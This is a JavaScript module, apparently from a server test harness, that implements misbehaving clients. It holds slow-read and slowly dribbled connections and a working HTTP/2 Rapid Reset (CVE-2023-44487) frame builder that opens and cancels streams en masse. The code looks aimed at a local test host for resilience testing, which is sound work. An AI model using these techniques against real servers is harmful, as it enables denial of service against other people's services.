// Misbehaving clients: connections that stay open, and handwritten HTTP/2 frames (RFC 9113).
import { connect } from "node:net";
import { HOST } from "./client.mjs";

/** The connections of an attack, which are closed together. */
export class Connections {
  #sockets = [];
  #timers = [];

  /** Opens a connection from an address and writes to it. Ignores errors, and calls `onWritten` also after an error. */
  open(port, from, bytes, onWritten = () => {}) {
    const socket = connect({ host: HOST, port, localAddress: from, noDelay: true });
    socket.on("error", () => {});
    socket.write(bytes, () => onWritten());
    this.#sockets.push(socket);
    return socket;
  }

  /** Opens a connection and never reads from it. */
  openWithoutReading(port, from, bytes) {
    const socket = this.open(port, from, bytes);
    // A paused socket without a listener for data is not read.
    socket.pause();
    return socket;
  }

  /** Opens a connection and discards what it receives. */
  openReading(port, from, bytes) {
    return this.open(port, from, bytes).resume();
  }

  /** Writes `part` to a connection at an interval. */
  dribble(socket, part, everyMs) {
    this.#timers.push(setInterval(() => socket.writable && socket.write(part), everyMs));
  }

  close() {
    for (const timer of this.#timers) clearInterval(timer);
    for (const socket of this.#sockets) socket.destroy();
  }
}

function frame(type, flags, stream, payload = Buffer.alloc(0)) {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header.writeUInt8(type, 3);
  header.writeUInt8(flags, 4);
  header.writeUInt32BE(stream, 5);
  return Buffer.concat([header, payload]);
}

const [HEADERS, RST_STREAM, SETTINGS] = [1, 3, 4];
const [END_STREAM, END_HEADERS] = [1, 4];
const CANCEL = Buffer.from([0, 0, 0, 8]);

/** The first bytes of an HTTP/2 client. */
export const HTTP2_PREFACE = Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(SETTINGS, 0, 0)]);

/** Returns frames that open `count` streams from number `first`, with a request for `path`, and reset each at once (CVE-2023-44487). */
export function resetStreams(first, count, path) {
  const literal = (text) => [text.length, ...Buffer.from(text)];
  // HPACK: GET and http come from the static table. Path and authority are literals with names from that table.
  const block = Buffer.from([0x82, 0x86, 0x04, ...literal(path), 0x01, ...literal("localhost")]);
  const frames = [];
  for (let index = 0; index < count; index += 1) {
    const stream = first + 2 * index;
    frames.push(frame(HEADERS, END_STREAM | END_HEADERS, stream, block), frame(RST_STREAM, 0, stream, CANCEL));
  }
  return Buffer.concat(frames);
}
